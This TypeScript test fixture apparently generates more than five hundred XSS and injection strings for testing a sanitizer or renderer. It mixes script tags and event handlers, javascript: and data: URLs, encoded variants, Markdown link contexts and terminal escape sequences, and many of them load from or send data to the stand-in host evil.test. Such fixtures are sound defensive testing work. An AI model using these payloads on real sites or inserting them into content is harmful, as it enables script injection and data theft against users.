// Strings that would run, load or navigate if a page treated them as more than text, combined from elements, spellings
// and Markdown contexts. An attack that works sets `hit`, opens a dialog or requests evil.test.

const RUNS = "globalThis.hit=1;alert(1);new Image().src='//evil.test/ran'"

/** Elements that run or load something, or change the page around them. */
const ELEMENTS: readonly string[] = [
  `<script>${RUNS}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<img src=x onerror="${RUNS}">`,
  `<img src=//evil.test/pixel.png>`,
  `<svg onload="${RUNS}">`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg><animate onbegin="${RUNS}" attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUNS}">`,
  `<math href="javascript:${RUNS}">x</math>`,
  `<iframe src="javascript:${RUNS}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=parent.hit=1>"></iframe>`,
  `<iframe src=//evil.test/></iframe>`,
  `<object data="javascript:${RUNS}"></object>`,
  `<embed src="javascript:${RUNS}">`,
  `<body onload="${RUNS}">`,
  `<input autofocus onfocus="${RUNS}">`,
  `<select autofocus onfocus="${RUNS}"></select>`,
  `<textarea autofocus onfocus="${RUNS}"></textarea>`,
  `<details open ontoggle="${RUNS}"><summary>x</summary></details>`,
  `<video><source onerror="${RUNS}"></video>`,
  `<video poster=//evil.test/poster.png></video>`,
  `<audio src=x onerror="${RUNS}">`,
  `<marquee onstart="${RUNS}">x</marquee>`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<link rel=prefetch href=//evil.test/prefetched>`,
  `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<base href=//evil.test/>`,
  `<style>@import '//evil.test/x.css'; * { background: url(//evil.test/bg) }</style>`,
  `<div style="background:url(//evil.test/bg);position:fixed;inset:0">x</div>`,
  `<form action=//evil.test/><button>x</button></form>`,
  `<button formaction="javascript:${RUNS}">x</button>`,
  `<a href="javascript:${RUNS}">x</a>`,
  `<a href=//evil.test/ ping=//evil.test/ping>x</a>`,
  `<xss id=x tabindex=1 onfocus="${RUNS}">x</xss>`,
  `<template shadowrootmode=open><img src=x onerror="${RUNS}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
  `</title></textarea></style></script><img src=x onerror="${RUNS}">`,
  `--><img src=x onerror="${RUNS}"><!--`,
  `]]><img src=x onerror="${RUNS}"><![CDATA[`,
  `"><img src=x onerror="${RUNS}">`,
  `' onmouseover='${RUNS}' x='`,
  `\`-alert(1)-\``,
  `\${alert(1)}{{constructor.constructor('alert(1)')()}}#{7*7}<%= 7*7 %>`,
  `__proto__[innerHTML]=<img/src/onerror=alert(1)>`,
]

const entity = (character: string) => `&#${character.codePointAt(0)};`

/** Spellings that a faulty sanitizer might turn into working elements. */
const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => text.replace(/[a-z]/g, (letter, place) => (place % 2 === 0 ? letter.toUpperCase() : letter)),
  (text) => text.replace(/[<>"'&]/g, entity),
  (text) => text.replace(/[<>"'&]/g, (character) => `&#x${character.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll(' ', '/').replace(/^<(\w)/, '<\u0000$1'),
  (text) => text.replaceAll('<', '<\u200b').replaceAll('on', 'o\u00adn'),
]

const TARGETS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript%3Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=',
  'blob:http://evil.test/1',
  'file:///etc/passwd',
  '//evil.test/x.png',
  'http://evil.test/x.png" onerror="alert(1)',
  'https://evil.test/x?a=1&b=<script>',
  '/api/forget?all=true',
  '?token=x',
]

const LINKS: readonly ((target: string) => string)[] = [
  (target) => `[link](${target})`,
  (target) => `[link](<${target}>)`,
  (target) => `![picture](${target})`,
  (target) => `[![both](${target})](${target})`,
  (target) => `<${target}>`,
  (target) => `[by name][r]\n\n[r]: ${target} "title"`,
  (target) => `[titled](http://x.test "${target}")`,
  (target) => `[^1]\n\n[^1]: <a href="${target}">note</a>`,
  (target) => target,
]

const PLACES: readonly ((text: string) => string)[] = [
  (text) => `# ${text}`,
  (text) => `> - ${text}`,
  (text) => `| ${text} | b |\n|---|---|\n| ${text} | c |`,
  (text) => `\`${text}\``,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `**${text}** _${text}_ ~~${text}~~`,
  (text) => `<div>\n\n${text}\n\n</div>`,
]

/** Terminal escape sequences around markup. */
const TERMINAL: readonly ((text: string) => string)[] = [
  (text) => `\u001b[31m${text}\u001b[0m`,
  (text) => `\u001b]8;;javascript:alert(1)\u0007${text}\u001b]8;;\u0007`,
  (text) => `\u001b]8;;https://evil.test/\u001b\\${text}\u001b]8;;\u001b\\`,
  (text) => `\u001b]0;${text}\u0007`,
  (text) => `\u001b]52;c;ZXZpbA==\u0007${text}`,
  (text) => `\u001bP$q${text}\u001b\\\u009b2J\u001b[?1049h`,
]

/** Picks some strings, different ones per context; all combinations would be thousands. */
function inTurn<Value>(values: readonly Value[], place: number, count: number): Value[] {
  return Array.from({ length: count }, (_, index) => values[(place * count + index) % values.length]).filter(
    (value) => value !== undefined,
  )
}

/** More than five hundred distinct strings. */
export const ATTACK_STRINGS: readonly string[] = [
  ...new Set([
    ...ELEMENTS,
    ...ELEMENTS.flatMap((text, place) => inTurn(SPELLINGS, place, 4).map((spell) => spell(text))),
    ...TARGETS.flatMap((target) => LINKS.map((link) => link(target))),
    ...ELEMENTS.flatMap((text, place) => inTurn(PLACES, place, 2).map((put) => put(text))),
    ...ELEMENTS.flatMap((text, place) => inTurn(TERMINAL, place, 1).map((wrap) => wrap(text))),
  ]),
]
